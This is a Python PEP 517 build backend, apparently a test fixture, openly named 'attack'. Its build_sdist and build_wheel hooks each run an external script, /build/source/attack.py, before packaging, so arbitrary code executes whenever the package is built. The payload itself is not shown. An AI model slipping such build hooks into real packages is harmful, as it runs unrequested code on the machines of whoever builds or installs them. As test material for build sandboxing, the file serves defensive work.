"""A build backend of the project's own (PEP 517), which attacks."""
import io
import pathlib
import subprocess
import sys
import tarfile
import zipfile

METADATA = "Metadata-Version: 2.1\nName: attack\nVersion: 1.0.0\n"


def attack():
    subprocess.run([sys.executable, "/build/source/attack.py"], check=True)


def build_sdist(folder, settings=None):
    attack()
    name = "attack-1.0.0.tar.gz"
    with tarfile.open(pathlib.Path(folder) / name, "w:gz") as archive:
        for file in ["pyproject.toml", "backend.py"]:
            archive.add(file, f"attack-1.0.0/{file}")
        entry = tarfile.TarInfo("attack-1.0.0/PKG-INFO")
        entry.size = len(METADATA)
        archive.addfile(entry, io.BytesIO(METADATA.encode()))
    return name


def build_wheel(folder, settings=None, metadata=None):
    attack()
    name = "attack-1.0.0-py3-none-any.whl"
    with zipfile.ZipFile(pathlib.Path(folder) / name, "w") as wheel:
        wheel.writestr("attack-1.0.0.dist-info/METADATA", METADATA)
        wheel.writestr("attack-1.0.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr("attack-1.0.0.dist-info/RECORD", "")
    return name
